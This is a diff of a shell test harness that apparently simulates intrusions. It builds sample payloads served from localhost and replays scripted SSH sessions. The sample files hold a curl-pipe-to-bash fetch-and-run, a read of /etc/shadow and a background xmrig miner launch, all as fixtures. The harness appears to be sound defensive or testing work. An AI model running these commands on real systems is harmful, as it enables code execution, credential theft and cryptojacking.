@@ -48,7 +48,7 @@ downloads() {
 	printf '#include <stdlib.h>\n#include <unistd.h>\nint main(){execl("/bin/sh","sh","-c","id; whoami; curl -s http://127.0.0.1:%d/s.sh | bash",(char*)0);}\n' $W >"$www/ls.c"
 	printf '#include <stdlib.h>\nint main(){return system("/bin/bash -c \\"id; cat /etc/shadow | wc -l\\"");}\n' >"$www/e.c"
 	(cd "$www" && printf '#!/bin/bash\nchmod +x run; ./run; nohup ./xmrig &\n' >install.sh && printf '#!/bin/sh\nid; uname -m; sh -c "ps | wc -l"\n' >run && tar czf b.tgz install.sh run xmrig)
-	net python3 "$here/dropserver.py" $W "$www" >/dev/null 2>&1 &
+	nsenter -t "$leader" -n python3 "$here/dropserver.py" $W "$www" >/dev/null 2>&1 &
 	server=$!
 }
 
@@ -76,13 +76,13 @@ terminal() {
 	local user=$1
 	shift
 	{
-		sleep 1
+		sleep 2
 		for l in "$@"; do
 			echo "$l"
-			sleep "1.$((RANDOM % 9))"
+			sleep "2.$((RANDOM % 9))"
 		done
-		printf '\003\nexit\n'
-		sleep 0.3
+		printf 'q\nexit\n'
+		sleep 0.5
 	} | timeout 40 nsenter -t "$leader" -n ssh -tt "${ssh_options[@]}" "$user@127.0.0.1" >/dev/null 2>&1
 }
 
